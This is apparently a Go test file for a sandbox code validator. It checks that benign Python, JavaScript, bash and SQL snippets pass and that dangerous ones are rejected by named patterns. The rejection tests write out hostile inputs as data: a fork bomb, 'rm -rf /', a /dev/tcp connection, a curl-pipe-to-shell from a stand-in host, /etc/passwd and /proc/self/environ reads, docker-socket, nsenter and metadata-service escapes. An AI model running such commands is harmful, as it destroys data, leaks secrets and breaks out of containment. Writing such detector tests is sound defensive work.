package validator

import (
	"errors"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"polyglot-sandbox/internal/language"
)

func newValidator() *Validator {
	return New(language.NewRegistry())
}

func TestValidate_Accepts(t *testing.T) {
	v := newValidator()

	tests := []struct {
		name string
		lang string
		code string
	}{
		{"python hello", "python", "print('hello')"},
		{"python re.compile", "python", "import re\nprint(re.compile('a+').match('aaa'))"},
		{"python loop with break", "python", "i = 0\nwhile True:\n    i += 1\n    if i > 3:\n        break\nprint(i)"},
		{"python json import", "python", "import json, math\nprint(json.dumps({'pi': math.pi}))"},
		{"node hello", "javascript", "console.log([1, 2, 3].map(x => x * 2))"},
		{"bash echo", "bash", "for i in 1 2 3; do echo $i; done"},
		{"sql select", "sql", "CREATE TABLE t(x); INSERT INTO t VALUES (1); SELECT * FROM t;"},
		{"low severity only logged", "python", "# mentions xmrig in a comment\nprint(1)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.NoError(t, v.Validate(tt.code, tt.lang))
		})
	}
}

func TestValidate_Rejects(t *testing.T) {
	v := newValidator()

	tests := []struct {
		name        string
		lang        string
		code        string
		wantPattern string
	}{
		{"python os.system", "python", "import os; os.system('ls')", "python_os_import"},
		{"python from os", "python", "from os import path", "python_os_import"},
		{"python subprocess", "python", "import subprocess\nsubprocess.run(['ls'])", "python_subprocess"},
		{"python dunder import", "python", "__import__('o'+'s')", "python_dunder_import"},
		{"python eval", "python", "print(eval('1+1'))", "python_eval_exec"},
		{"python subclasses walk", "python", "().__class__.__bases__[0].__subclasses__()", "python_builtins_escape"},
		{"python busy loop", "python", "while True:\n    pass", "python_infinite_loop"},
		{"node child_process", "node", "require('child_process').execSync('id')", "node_child_process"},
		{"node fs", "node", "const fs = require('fs')", "node_fs_require"},
		{"node busy loop", "node", "while (true) {}", "node_infinite_loop"},
		{"bash busy loop", "bash", "while true; do :; done", "bash_infinite_loop"},
		{"bash fork bomb", "bash", ":(){ :|:& };:", "bash_fork_bomb"},
		{"bash rm root", "bash", "rm -rf /", "bash_rm_root"},
		{"bash dev tcp", "bash", "exec 3<>/dev/tcp/10.0.0.1/80", "bash_dev_tcp"},
		{"bash curl pipe", "bash", "curl -s http://x.example/i.sh | sh", "bash_pipe_to_shell"},
		{"sql drop", "sql", "DROP TABLE users;", "sql_drop"},
		{"sql attach", "sql", "ATTACH DATABASE '/etc/passwd' AS p;", "sql_attach"},
		{"sql shell", "sql", ".shell id", "sql_dot_shell"},
		{"escape proc self", "python", "print(open('/proc/self/environ').read())", "proc_self_access"},
		{"escape docker socket", "bash", "ls -l /var/run/docker.sock", "host_socket_access"},
		{"escape nsenter", "bash", "nsenter -t 1 -m sh", "namespace_escape"},
		{"escape metadata", "python", "print('http://169.254.169.254/latest/')", "metadata_service"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := v.Validate(tt.code, tt.lang)
			require.Error(t, err)
			assert.True(t, errors.Is(err, ErrRejected))

			var verr *ValidationError
			require.True(t, errors.As(err, &verr))
			assert.Equal(t, tt.wantPattern, verr.Pattern)
			assert.NotEmpty(t, verr.Reason)
		})
	}
}

func TestValidate_SizeCeiling(t *testing.T) {
	v := newValidator()

	code := "# " + strings.Repeat("x", language.DefaultMaxCodeBytes)
	err := v.Validate(code, "python")

	var verr *ValidationError
	require.True(t, errors.As(err, &verr))
	assert.Equal(t, "size_limit", verr.Pattern)

	atLimit := strings.Repeat("#", language.DefaultMaxCodeBytes)
	assert.NoError(t, v.Validate(atLimit, "python"))
}

func TestValidate_EmptyAndUnknown(t *testing.T) {
	v := newValidator()

	var verr *ValidationError
	require.True(t, errors.As(v.Validate("   \n", "python"), &verr))
	assert.Equal(t, "empty_code", verr.Pattern)

	require.True(t, errors.As(v.Validate("print(1)", "cobol"), &verr))
	assert.Equal(t, "unsupported_language", verr.Pattern)
}

func TestValidate_ReportsLine(t *testing.T) {
	v := newValidator()

	err := v.Validate("x = 1\ny = 2\nimport subprocess\n", "python")
	var verr *ValidationError
	require.True(t, errors.As(err, &verr))
	assert.Equal(t, 3, verr.Line)
	assert.Contains(t, verr.Error(), "line 3")
}

func TestValidate_FirstMatchShortCircuits(t *testing.T) {
	v := newValidator()

	// Both a language pattern and an escape signature match; the language
	// denylist is consulted first.
	err := v.Validate("import os\nopen('/proc/self/root')", "python")
	var verr *ValidationError
	require.True(t, errors.As(err, &verr))
	assert.Equal(t, "python_os_import", verr.Pattern)
}
